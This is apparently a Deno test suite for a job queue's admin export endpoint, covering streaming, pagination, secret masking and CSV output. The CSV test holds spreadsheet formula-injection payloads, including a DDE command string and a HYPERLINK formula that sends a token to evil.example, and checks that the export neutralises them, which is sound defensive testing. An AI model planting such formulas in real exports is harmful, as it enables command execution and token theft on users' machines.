import { assert, assertEquals } from "@std/assert";
import { createApp } from "../app.ts";
import { StoreUnavailableError } from "../lib/errors.ts";
import { Queue } from "../lib/queue.ts";
import { Scheduler } from "../lib/scheduler.ts";
import type { JobFilter } from "../lib/store.ts";
import { KvStore } from "../stores/kv/store.ts";
import { MemoryStore } from "../stores/memory.ts";
import { Api } from "../testing/api.ts";
import { makeJob } from "../testing/factories.ts";
import { FakeClock } from "../testing/fake-clock.ts";
import { MASK } from "../lib/redact.ts";
import type { JobView } from "./job-view.ts";

const EXPORT = "/api/admin/jobs/export";

/** A store that counts the pages it was asked for. */
class PagedStore extends MemoryStore {
  pages = 0;

  override list(filter: JobFilter, page: { cursor?: string; limit: number }) {
    this.pages++;
    return super.list(filter, page);
  }
}

/** The rows of a CSV text, as a reader of RFC 4180 sees them. */
function rowsOf(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [whole, cell = "", end] of text.matchAll(/("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n)/g)) {
    assert(whole !== "");
    row.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

async function recordsOf(api: Api, query: string): Promise<Record<string, string | undefined>[]> {
  const { body } = await api.call<string>("GET", `${EXPORT}?format=csv${query}`);
  const [head = [], ...rows] = rowsOf(body);
  return rows.map((row) => Object.fromEntries(head.map((name, i) => [name, row[i]])));
}

/** The app on its own, whose answers the test reads piece by piece. */
async function setUp() {
  const store = new PagedStore();
  const queue = new Queue({ store, clock: new FakeClock() });
  const scheduler = new Scheduler(queue);
  await queue.ready();
  const app = createApp({ queue, scheduler, authorize: () => "viewer" });
  return { store, queue, app, [Symbol.asyncDispose]: () => queue.stop() };
}

Deno.test("GET /jobs/export gives each of 20,000 jobs once, and reads a page when the one before is taken", async () => {
  await using test = await setUp();
  const jobs = Array.from({ length: 20_000 }, (_, n) => makeJob({ id: `j${n}`, data: { n } }));
  await test.store.insert(jobs.map((job) => ({ job })), 0);

  const response = await test.app.request(EXPORT);
  const ids = new Set<string>();
  const decoder = new TextDecoder();
  let text = "";
  for await (const chunk of response.body!) {
    assert(chunk.length < 100_000, `a chunk of ${chunk.length} bytes`);
    text += decoder.decode(chunk, { stream: true });
    const lines = text.split("\n");
    text = lines.pop()!;
    for (const line of lines) ids.add((JSON.parse(line) as JobView).id);
    // A page of 200 jobs is about two chunks: what was read and not yet taken is less than two pages.
    assert(test.store.pages * 200 - ids.size < 400, `${test.store.pages} pages for ${ids.size} jobs`);
  }

  assertEquals([text, ids.size, test.store.pages], ["", 20_000, 100]);
});

Deno.test("GET /jobs/export ends when its client goes away", async () => {
  await using test = await setUp();
  await test.store.insert(Array.from({ length: 2_000 }, () => ({ job: makeJob() })), 0);
  const response = await test.app.request(EXPORT);
  const reader = response.body!.getReader();
  await reader.read();
  const { pages } = test.store;

  await reader.cancel();

  assertEquals(test.store.pages, pages);
  assert(pages <= 2);
});

Deno.test("GET /jobs/export breaks off when the store goes away, and is refused when it is away", async () => {
  await using test = await setUp();
  await test.store.insert(Array.from({ length: 1_000 }, () => ({ job: makeJob() })), 0);
  const response = await test.app.request(EXPORT);
  test.store.list = () => Promise.reject(new StoreUnavailableError("gone"));

  const error = await response.text().catch((error: unknown) => error);

  assert(error instanceof StoreUnavailableError);
  assertEquals((await test.app.request(EXPORT)).status, 503);
});

Deno.test("GET /jobs/export filters and masks as lists do, but gives long data whole", async () => {
  await using api = new Api();
  const long = "x".repeat(50_000);
  await api.queue.add("a", { token: "hunter2", long }, { jobId: "one" });
  await api.queue.add("b", { token: "hunter2" }, { jobId: "two" });

  const { body, headers } = await api.call<string>("GET", `${EXPORT}?type=a&q=one`, { role: "viewer" });

  const jobs: JobView[] = String(body).trim().split("\n").map((line) => JSON.parse(line));
  assertEquals(jobs.map(({ id, data }) => [id, data]), [["one", { token: MASK, long }]]);
  assertEquals((await api.call<JobView>("GET", "/api/admin/jobs/one")).body.data, jobs[0]?.data);
  assertEquals(headers.get("Content-Type"), "application/x-ndjson");
  assertEquals(
    headers.get("Content-Disposition"),
    'attachment; filename="jobs-2026-01-01T000000Z.ndjson"',
  );
  assertEquals((await api.call<string>("GET", `${EXPORT}?q=hunter2`)).body, "");
  assertEquals(
    (await api.call<string>("GET", `${EXPORT}?type=none&format=csv`)).body.split("\r\n").length,
    2,
  );
});

Deno.test("GET /jobs/export gives data whole that a store keeps apart from its jobs", async () => {
  const folder = await Deno.makeTempDir();
  const queue = new Queue({ store: new KvStore({ path: `${folder}/jobs.db` }) });
  const data = { text: "x".repeat(100_000) };
  await queue.add("a", data, { jobId: "large" });
  await queue.add("a", {}, { jobId: "small" });
  const app = createApp({ queue, scheduler: new Scheduler(queue), authorize: () => "viewer" });

  const text = await (await app.request(EXPORT)).text();

  const jobs: JobView[] = text.trim().split("\n").map((line) => JSON.parse(line));
  assertEquals(jobs.map(({ id, data }) => [id, data]), [["small", {}], ["large", data]]);
  const list: { data: (JobView & { omitted?: string[] })[] } = await (await app.request("/api/admin/jobs"))
    .json();
  assertEquals(list.data.map(({ data, omitted }) => [data, omitted]), [[{}, undefined], [null, ["data"]]]);
  await queue.stop();
  await Deno.remove(folder, { recursive: true });
});

Deno.test("GET /jobs/export leaves out long jobs that are removed while it is written, and gives the rest", async () => {
  const folder = await Deno.makeTempDir();
  const queue = new Queue({ store: new KvStore({ path: `${folder}/jobs.db` }) });
  const data = { text: "x".repeat(100_000) };
  for (const jobId of ["first", "removed", "last"]) await queue.add("a", data, { jobId });
  const app = createApp({ queue, scheduler: new Scheduler(queue), authorize: () => "viewer" });

  const response = await app.request(EXPORT); // now they are listed, but none has been read whole
  await queue.remove("removed");
  const jobs: JobView[] = (await response.text()).trim().split("\n").map((line) => JSON.parse(line));

  assertEquals(jobs.map(({ id, data }) => [id, data]), [["last", data], ["first", data]]);
  await queue.stop();
  await Deno.remove(folder, { recursive: true });
});

Deno.test("GET /jobs/export?format=csv gives one row a job, which no spreadsheet takes for a formula", async () => {
  await using api = new Api();
  api.queue.process("=cmd|' /C calc'!A0", () => {
    throw new Error('=HYPERLINK("https://evil.example?token=hunter2"),\r\nmore');
  });
  const attack = { tags: ["@SUM(1)", "b"], createdBy: "+1", maxAttempts: 1, priority: -5 };
  await api.queue.add("=cmd|' /C calc'!A0", "=1+1", attack);
  await api.queue.add("日本語", { text: 'Zoë "🚀", \u0000\n' }, { jobId: "u" });
  await api.queue.drain();

  const [unicode, attacked] = await recordsOf(api, "");

  assertEquals(attacked?.type, "'=cmd|' /C calc'!A0");
  assertEquals([attacked?.tags, attacked?.createdBy, attacked?.priority], ["'@SUM(1) b", "'+1", "-5"]);
  assertEquals(attacked?.data, '"=1+1"');
  assertEquals(/^'=HYPERLINK\(.*,\r\nmore$/.test(attacked?.error ?? ""), true);
  assert(!attacked?.error?.includes("hunter2"));
  assertEquals([unicode?.type, unicode?.id], ["日本語", "u"]);
  assertEquals(JSON.parse(unicode?.data ?? ""), { text: 'Zoë "🚀", \u0000\n' });
});

Deno.test("GET /jobs/export refuses what it does not understand, and producers", async () => {
  await using api = new Api();
  const cases: [string, string][] = [
    ["format=xml", "format"],
    ["limit=10", "limit"],
    ["cursor=abc", "cursor"],
    ["status=done", "status"],
    ["nonsense=1", "nonsense"],
  ];
  for (const [query, path] of cases) {
    assertEquals(await api.refusal("GET", `${EXPORT}?${query}`), [400, "invalid_input", path]);
  }
  assertEquals(await api.refusal("GET", EXPORT, { role: "producer" }), [403, "forbidden"]);
  const head = await api.call<string>("HEAD", `${EXPORT}?format=csv`);
  assertEquals([head.status, head.body], [200, ""]);
});
